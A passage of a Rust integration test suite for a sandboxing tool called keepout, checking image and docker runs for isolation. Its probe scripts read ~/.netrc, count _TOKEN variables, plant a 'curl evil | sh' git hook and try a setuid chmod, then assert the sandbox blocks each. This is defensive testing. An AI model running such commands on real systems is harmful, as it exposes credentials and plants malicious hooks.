                      touch made-here && echo wrote-project; cat ~/.netrc 2>&1 | head -1";
        let tried = keepout_with(
            &fx,
            &[
                "try", "--image", IMAGE, &repo, "--name", "img-1", "--", "sh", "-c", script,
            ],
            &env,
        );
        assert!(tried.success(), "[{r}] try --image:{tried}");
        for said in ["in-image", "hello", "wrote-home", "wrote-project"] {
            assert!(tried.has(said), "[{r}] {said}:{tried}");
        }
        let project = fx.home.join("img-1").display().to_string();
        assert!(
            tried.has(&project),
            "[{r}] runs in the clone, ~/img-1:{tried}"
        );
        assert!(
            !tried.stdout.contains(&fx.credential(".netrc")),
            "[{r}] the real ~/.netrc is not in the workspace:{tried}"
        );
        let ws_home = store.join("workspaces/img-1/home");
        assert!(
            ws_home.join("left-here").exists() && ws_home.join("img-1/made-here").exists(),
            "[{r}] the writes are the workspace's, on the host"
        );

        let shell = |script: &str, image: bool| {
            let mut args = vec!["shell", "img-1"];
            if image {
                args.extend(["--image", IMAGE]);
            }
            args.extend(["--", "sh", "-c", script]);
            keepout_with(&fx, &args, &env)
        };
        let again = shell(
            "test ! -e /usr/bin/bwrap && echo in-image; cat ~/left-here",
            true,
        );
        assert!(
            again.has("in-image") && again.has("kept"),
            "[{r}] shell --image comes back to the home as left:{again}"
        );

        let snap = keepout_with(&fx, &["workspace", "snapshot", "img-1", "lay-1"], &env);
        assert!(snap.success(), "[{r}] snapshot:{snap}");
        let on_layer = shell(
            "cat ~/left-here; echo on-layer > ~/left-here; echo new > ~/added && echo wrote",
            true,
        );
        assert!(
            on_layer.has("kept") && on_layer.has("wrote"),
            "[{r}] shell --image on a layer sees the layer and writes over it:{on_layer}"
        );
        let layer_file = store.join("layers/lay-1/home/left-here");
        assert_eq!(
            std::fs::read_to_string(&layer_file).unwrap(),
            "kept\n",
            "[{r}] the layer is as it was"
        );
        let native = shell("cat ~/left-here ~/added", false);
        assert!(
            native.has("on-layer") && native.has("new"),
            "[{r}] the native sandbox sees what the image's run wrote:{native}"
        );

        let snap = keepout_with(&fx, &["workspace", "snapshot", "img-1", "lay-2"], &env);
        assert!(snap.success(), "[{r}] second snapshot:{snap}");
        let two = shell("echo ran", true);
        assert_eq!(two.code, Some(125), "[{r}] two layers:{two}");
        assert!(
            two.stderr.contains("on 2 layers")
                && two.stderr.contains("without --image")
                && !two.has("ran"),
            "[{r}] refused, saying what to do:{two}"
        );
        let rm = keepout_with(&fx, &["workspace", "rm", "img-1"], &env);
        assert!(rm.success(), "[{r}] rm:{rm}");
    }
}

/// A docker daemon of the test's own (its data, state and socket in a temporary directory, no
/// bridge, no iptables), stopped and removed when dropped; `None`, with a note, where dockerd is
/// not installed or does not start.
struct PrivateDocker {
    dir: tempfile::TempDir,
    daemon: std::process::Child,
}

impl PrivateDocker {
    fn start() -> Option<PrivateDocker> {
        if !have("/usr/sbin/dockerd") || !have("docker") {
            note("dockerd is not installed: the docker --image test did not run (apt-get install docker.io)");
            return None;
        }
        let dir = tempfile::Builder::new()
            .prefix("keepout-docker-")
            .tempdir()
            .unwrap();
        let d = dir.path();
        let log = std::fs::File::create(d.join("log")).unwrap();
        let daemon = std::process::Command::new("/usr/sbin/dockerd")
            .arg("--data-root")
            .arg(d.join("data"))
            .arg("--exec-root")
            .arg(d.join("exec"))
            .arg("--pidfile")
            .arg(d.join("pid"))
            .arg("--host")
            .arg(format!("unix://{}", d.join("sock").display()))
            .args([
                "--bridge",
                "none",
                "--iptables=false",
                "--ip6tables=false",
                "--ip-masq=false",
            ])
            .args([
                "--containerd-namespace",
                "keepout-test",
                "--containerd-plugins-namespace",
                "keepout-test-p",
            ])
            .stdin(std::process::Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap();
        let docker = PrivateDocker { dir, daemon };
        for _ in 0..100 {
            if docker.docker(&["info"]).status.success() {
                return Some(docker);
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        let log = std::fs::read_to_string(docker.dir.path().join("log")).unwrap_or_default();
        note(&format!(
            "dockerd did not start: the docker --image test did not run:\n{log}"
        ));
        None
    }

    fn host(&self) -> String {
        format!("unix://{}", self.dir.path().join("sock").display())
    }

    fn docker(&self, args: &[&str]) -> std::process::Output {
        std::process::Command::new("docker")
            .args(args)
            .env("DOCKER_HOST", self.host())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    }
}

impl Drop for PrivateDocker {
    fn drop(&mut self) {
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_child(&self.daemon),
            rustix::process::Signal::TERM,
        );
        let _ = self.daemon.wait();
    }
}

/// `--engine docker` (root's rootful docker, a daemon of the test's own reached through
/// `DOCKER_HOST`): the project at its path, writable through the idmapped copy with the new
/// file root's, git's hooks read-only, no set-id mode (keepout's rules on the moby profile);
/// none of the caller's tokens or credentials; the command's exit status; and what docker
/// cannot do refused, saying so.
#[test]
fn image_with_docker_runs_the_same_policy() {
    let Some(r) = runners().into_iter().find(|r| r.is_root()) else {
        note("the docker --image test runs as root only (a rootful docker of its own)");
        return;
    };
    let fx = Fixture::new(&r);
    let Some(docker) = PrivateDocker::start() else {
        return;
    };
    let tar = tarball();
    let imported = docker.docker(&["import", &tar.display().to_string(), IMAGE]);
    assert!(imported.status.success(), "docker import: {imported:?}");
    let mut env = fx.env().to_vec();
    env.push(("DOCKER_HOST".into(), docker.host()));
    let hook = fx.project.join(".git/hooks/pre-commit");
    let script = "pwd; cat README.md; touch made-inside && echo wrote; \
                  echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted; \
                  env | grep -c _TOKEN; cat ~/.netrc 2>&1 | head -1; \
                  cp /bin/true suid && echo copied && chmod 4755 suid; echo chmod=$?; exit 3";
    let inn = in_image(&fx, &env, &["--engine", "docker"], script);
    assert_eq!(inn.code, Some(3), "[{r}] the command's exit status:{inn}");
    let project = fx.project.display().to_string();
    assert!(
        inn.stdout.lines().next() == Some(project.as_str()) && inn.has("hello"),
        "[{r}] the project at its own path:{inn}"
    );
    assert!(
        inn.has("wrote") && fx.project.join("made-inside").exists(),
        "[{r}] root's project is writable through the idmapped copy:{inn}"
    );
    let owner = fx.outside("stat -c %u made-inside");
    assert_eq!(
        owner.stdout.trim(),
        "0",
        "[{r}] the new file is root's:{owner}"
    );
    assert!(
        !inn.has("planted") && !hook.exists(),
        "[{r}] .git/hooks is read-only:{inn}"
    );
    // Through the copy, the container's file is root's: a set-id one would be set-id root.
    use std::os::unix::fs::PermissionsExt;
    let suid = std::fs::metadata(fx.project.join("suid")).map(|m| m.permissions().mode());
    assert!(
        inn.has("copied") && inn.has("chmod=1") && suid.is_ok_and(|m| m & 0o6000 == 0),
        "[{r}] keepout's profile refuses the set-id mode with docker too:{inn}"
    );
    assert!(
        inn.stdout.lines().any(|l| l == "0"),
        "[{r}] no token variable:{inn}"
    );
    for (_, value) in fx.secrets() {
        assert!(!inn.has(&value), "[{r}] no secret of the caller's:{inn}");
    }
    assert!(
        !inn.stdout.contains(&fx.credential(".netrc")),
        "[{r}] no ~/.netrc of the caller's:{inn}"
    );
    let proxied = in_image(
        &fx,
        &env,
        &["--engine", "docker", "--net", "pypi"],
        "echo ran",
    );
    assert_eq!(proxied.code, Some(125), "[{r}] --net with docker:{proxied}");
    assert!(
        proxied.stderr.contains("not supported yet") && !proxied.has("ran"),
        "[{r}] --net NAMES with docker is refused, saying so:{proxied}"
    );
    let left = docker.docker(&["ps", "--all", "--quiet"]);
    assert!(
        String::from_utf8_lossy(&left.stdout).trim().is_empty(),
        "[{r}] no container is left: {left:?}"
    );
}
